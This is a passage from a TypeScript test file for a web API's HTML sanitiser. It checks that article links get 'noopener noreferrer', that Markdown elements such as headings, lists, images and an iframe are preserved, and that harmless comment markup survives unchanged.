    const opened = await createArticle(app, t, { title: 'Opener', authorId: author.id, body: html })
    const anchor = elementsOf(opened.body).find((element) => element.name === 'a')!
    t.equal(anchor.attribs.rel, 'noopener noreferrer', `${html}: rel is noopener noreferrer whatever was given`)
  }

  const markdown = await createArticle(app, t, {
    title: 'Markdown',
    authorId: author.id,
    body: undefined,
    markdown: '## The vote\n\n- one\n- two\n\n> quoted\n\n[the report](https://example.org/report)\n\n![bridge](https://images.example.org/bridge.jpg)\n\n<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ"></iframe>'
  })
  const tags = elementsOf(markdown.body).map((element) => element.name)
  for (const tag of ['h2', 'ul', 'li', 'blockquote', 'a', 'img', 'iframe']) t.ok(tags.includes(tag), `Markdown keeps <${tag}>`, { stored: markdown.body })
  const img = elementsOf(markdown.body).find((element) => element.name === 'img')!
  t.equal(img.attribs.src, 'https://images.example.org/bridge.jpg')
  t.equal(elementsOf(markdown.body).find((element) => element.name === 'a')!.attribs.href, 'https://example.org/report')
})

t.test('legitimate comment markup survives', async (t) => {
  const response = await request(app, t, {
    method: 'POST',
    url: `/v1/articles/${article.id}/comments`,
    payload: { authorName: 'A reader', body: '<p>I <em>really</em> liked <strong>this</strong>: <a href="https://example.org/more">more</a></p><blockquote>quoted</blockquote>' }
  })
  t.equal(response.statusCode, 201)
  const body = response.json().body
  t.same(commentDangers(body), [])
  t.same(elementsOf(body).map((element) => element.name), ['p', 'em', 'strong', 'a', 'blockquote'])
  t.equal(elementsOf(body).find((element) => element.name === 'a')!.attribs.href, 'https://example.org/more')
})
